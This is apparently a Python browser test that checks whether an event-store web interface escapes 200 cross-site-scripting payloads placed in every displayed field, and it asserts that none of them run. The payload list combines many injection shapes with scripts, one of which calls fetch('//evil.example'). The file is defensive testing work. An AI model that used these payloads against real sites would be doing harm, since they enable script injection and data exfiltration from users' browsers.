"""SEC-7: two hundred texts that run a script wherever they are taken for markup, in every field that a page shows.
None may run."""

import asyncio
import itertools
import json
import sys
import urllib.parse

from devtools import Browser
from servers import Receiver, Server, folder, program

scripts = ["alert(1)", "window.ran=1", "fetch('//evil.example')", "document.title='ran'"]
shapes = [
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "\"><script>{0}</script>",
    "'><img src=x onerror={0}>", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
    "javascript:{0}", "<a href=javascript:{0}>x</a>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>",
    "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<body onload={0}>", "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>", "<audio src=x onerror={0}>",
    "<marquee onstart={0}>", "<math><mtext><script>{0}</script>", "<template><script>{0}</script></template>",
    "<link rel=stylesheet href=javascript:{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href=//evil.example/{0}>",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "`${{{0}}}`", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E", "<!--><script>{0}</script>",
    "<![CDATA[<script>{0}</script>]]>", "<x onclick={0} style=animation:a>", "<style>@import 'javascript:{0}'</style>", "<div style=width:expression({0})>",
    "<form action=javascript:{0}><button autofocus>", "<button formaction=javascript:{0}>", "<keygen autofocus onfocus={0}>", "<isindex type=image src=1 onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<ſcript>{0}</ſcript>", "data:text/html,<script>{0}</script>", "__proto__</script><script>{0}</script>",
    "\u202e<script>{0}</script>", "\ufeff<script>{0}</script>", "constructor<script>{0}</script>",
]
payloads = [shape.format(script) for shape, script in itertools.product(shapes, scripts)]
assert len(payloads) == len(set(payloads)) == 200


async def processes(page, open_page, server, every):
    """The pages of processes and webhooks."""
    for route in ["processes", "process/purchase", "process/purchase/parked", "process/purchase/completed", "webhooks", "webhook/archive"]:
        await open_page(route, "document.querySelector('main a, main button')")
    await open_page("deadlines/purchase", "document.querySelector('main .empty, main tbody a')")
    await open_page("effects/purchase", "document.querySelectorAll('section.card').length === 50")
    after, found = "", []
    while after is not None:
        _, answer = server.ask(f"/v1/processes/purchase/instances?limit=1000&after={after}" if after else "/v1/processes/purchase/instances?limit=1000")
        found += [one["key"] for one in answer["instances"]]
        after = answer.get("next")
    assert len(found) == 214, len(found)
    for key in found[::every * 2] + [one for one in found if one.startswith("parked")]:
        await page.run(f"location.hash = '#/instance/purchase/' + {json.dumps(urllib.parse.quote(key, safe=''))}")
        await page.until(f"document.querySelector('main h1')?.textContent === {json.dumps(key)} && document.querySelector('.timeline li')", what=key)
        await page.run("document.querySelectorAll('.timeline details').forEach((one) => { one.open = true; })")


async def main():
    place = folder()
    store, model, texts = f"{place}/hostile.sqlite", f"{place}/views.sqlite", f"{place}/texts.json"
    with open(texts, "w") as file:
        json.dump(payloads, file)
    # Keys of instances, items, errors, results, refusals and reasons.
    program("sillok-process-play", "make", store, model, Receiver().address, "0", texts)
    with Server(store, "--read-model", model) as server:
        head = server.ask("/v1/head")[1]["head"]
        for start in range(0, 200, 50):
            events = [{"type": text[:250], "subject": f"hostile-{text}", "tags": [text[:250]], "metadata": {text: text, "actor": text, "causationid": text},
                       "data": {text: [text, {"inner": text}]}} for text in payloads[start:start + 50]]
            events += [{"type": text[:250], "subject": text, "datacontenttype": text[:250].replace(";", ","), "data_base64": "PHNjcmlwdD4="} for text in payloads[start:start + 50]]
            status, answer = server.ask("/v1/events", events)
            assert status == 200, answer
        _, page_of_events = server.ask(f"/v1/events?limit=1000&after={head}")
        ids = [event["id"] for event in page_of_events["events"]]
        assert len(ids) == 400
        async with Browser(f"{place}/pictures") as page:
            async def open_page(route, waited="document.querySelector('main').childElementCount"):
                await page.open("about:blank")
                await page.open(f"{server.address}/#/{route}")
                await page.until(waited)
            await open_page("streams", "document.querySelectorAll('tbody tr').length >= 100")
            await open_page("")
            await open_page("tail", "document.querySelector('.sub')?.textContent === 'following'")
            for start in range(0, 200, 100):
                server.ask("/v1/events", [{"type": text[:250], "subject": text, "data": text} for text in payloads[start:start + 100]])
            await page.until("document.querySelectorAll('.feed a').length === 200")
            every = 1 if "--all" in sys.argv else 4
            for index, id in enumerate(ids[::every]):
                await page.run(f"location.hash = '#/event/{id}'")
                await page.until(f"document.querySelector('main .sub')?.textContent === '{id}'")
            for text in payloads[::every]:
                name = urllib.parse.quote(text, safe="")
                await page.run(f"location.hash = '#/stream/' + {json.dumps(name)}")
                await page.until(f"document.querySelector('main h1')?.textContent === {json.dumps(text)}", what=text)
                await page.run(f"location.hash = '#/streams/' + {json.dumps(name)} + '/' + {json.dumps(name)}")
                await page.until("document.querySelector('input[type=search]')")
            await processes(page, open_page, server, every)
            ran = await page.run("window.ran ?? (document.title === 'ran' ? 1 : 0)")
            outside = [one for one in page.requests if not one.startswith((server.address, "about:", "data:"))]
            assert not ran and not page.dialogs and not outside, (ran, page.dialogs, outside)
            framed = await page.run("new Promise((done) => { const f = document.createElement('iframe'); f.src = location.origin + '/'; f.onload = () => { try { done(!!f.contentDocument?.querySelector('nav')); } catch { done(false); } }; document.body.append(f); setTimeout(() => done(false), 1500); })")
            assert not framed, "the page can be framed"
        print(f"SEC-7: {len(payloads)} payloads in every field, 0 ran")


asyncio.run(main())
